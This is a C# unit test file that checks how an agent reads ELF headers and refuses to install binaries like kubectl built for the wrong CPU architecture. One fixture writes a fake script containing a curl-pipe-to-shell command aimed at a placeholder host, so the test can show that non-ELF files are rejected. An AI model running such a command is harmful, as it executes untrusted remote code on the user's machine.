using Fleet.Agent.Facts;
using Fleet.Agent.Steps;
using Fleet.Testing;
using Fleet.V1;

namespace Fleet.Agent.Tests.Steps;

public sealed class ElfMachineTests : IDisposable
{
    private readonly TempDir _dir = new();

    public void Dispose() => _dir.Dispose();

    [Theory]
    [InlineData(ElfMachine.X86_64, true)]
    [InlineData(ElfMachine.AArch64, true)]
    [InlineData(ElfMachine.Arm, false)]
    public void Read_LittleEndianHeader_IsItsMachine(ushort machine, bool is64Bit) =>
        Assert.Equal(machine, ElfMachine.Read(Write("tool", Elf.File(machine, "payload", is64Bit: is64Bit))));

    [Fact]
    public void Read_BigEndianHeader_IsReadBigEndian()
    {
        // 0x00B7 big-endian: read little-endian it would be 0xB700.
        var path = Write("tool", Elf.File(ElfMachine.AArch64, bigEndian: true));

        Assert.Equal(ElfMachine.AArch64, ElfMachine.Read(path));
    }

    [Fact]
    public void Read_ExactlyTwentyBytes_IsEnough() =>
        Assert.Equal(ElfMachine.X86_64, ElfMachine.Read(Write("tool", Elf.X86_64()[..20])));

    [Fact]
    public void Read_NotElf_IsNull() =>
        Assert.Null(ElfMachine.Read(Write("script", "#!/bin/sh\necho this is long enough to be a header\n"u8.ToArray())));

    [Theory]
    [InlineData(0)]
    [InlineData(4)]
    [InlineData(19)]
    public void Read_TooShort_IsNull(int length) =>
        Assert.Null(ElfMachine.Read(Write("short", Elf.X86_64()[..length])));

    [Fact]
    public void Read_RealBinary_IsThisMachine()
    {
        // x86-64 (62) where these tests run today; whatever uname(2) says elsewhere.
        var machine = ElfMachine.For(new NodeArch(new LibcUname()).Value);

        Assert.Equal(machine, ElfMachine.Read("/bin/ls"));
        Assert.Equal(machine, ElfMachine.Read(Environment.ProcessPath!)); // the dotnet host running this test
    }

    [Theory]
    [InlineData(Arch.Amd64, ElfMachine.X86_64)]
    [InlineData(Arch.Arm64, ElfMachine.AArch64)]
    [InlineData(Arch.Arm, ElfMachine.Arm)]
    public void For_EachArch_IsItsMachine(Arch arch, ushort machine) => Assert.Equal(machine, ElfMachine.For(arch));

    [Fact]
    public void Require_Match_DoesNotThrow()
    {
        var path = Write("kubectl", Elf.AArch64());

        ElfMachine.Require(path, "kubectl", Arch.Arm64);

        Assert.True(File.Exists(path)); // Require only reads
    }

    [Fact]
    public void Require_Mismatch_ThrowsNamingBothMachinesAndTheNodeArch()
    {
        var path = Write("kubectl", Elf.X86_64());

        var ex = Assert.Throws<StepFailedException>(() => ElfMachine.Require(path, "kubectl", Arch.Arm64));

        Assert.Equal("kubectl is built for x86-64, but this node is arm64 (AArch64); refusing to install it", ex.Message);
    }

    [Fact]
    public void Require_UnknownMachine_IsNamedByNumber()
    {
        var path = Write("kubelet", Elf.File(243)); // RISC-V

        var ex = Assert.Throws<StepFailedException>(() => ElfMachine.Require(path, "kubelet", Arch.Amd64));

        Assert.Contains("built for machine 243", ex.Message, StringComparison.Ordinal);
        Assert.Contains("amd64 (x86-64)", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Require_NotElf_IsRefusedNamingTheFile()
    {
        var path = Write("kubectl", "#!/bin/sh\nexec curl https://example.invalid | sh\n"u8.ToArray());

        var ex = Assert.Throws<StepFailedException>(() => ElfMachine.Require(path, "kubectl", Arch.Amd64));

        Assert.Equal("kubectl is not an ELF executable; this node (amd64) needs x86-64", ex.Message);
    }

    private string Write(string name, byte[] content)
    {
        var path = _dir.Combine(name);
        File.WriteAllBytes(path, content);
        return path;
    }
}
